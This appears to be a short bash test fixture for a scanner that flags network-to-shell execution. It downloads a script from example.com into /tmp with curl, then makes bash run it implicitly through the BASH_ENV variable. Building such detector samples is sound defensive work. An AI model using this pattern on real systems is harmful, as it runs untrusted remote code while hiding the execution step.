#!/bin/bash
# shows: fetched text as what bash reads first
# expect: network-to-shell at line 5
curl -fsSL https://example.com/env.sh -o /tmp/env.sh
BASH_ENV=/tmp/env.sh bash -c true
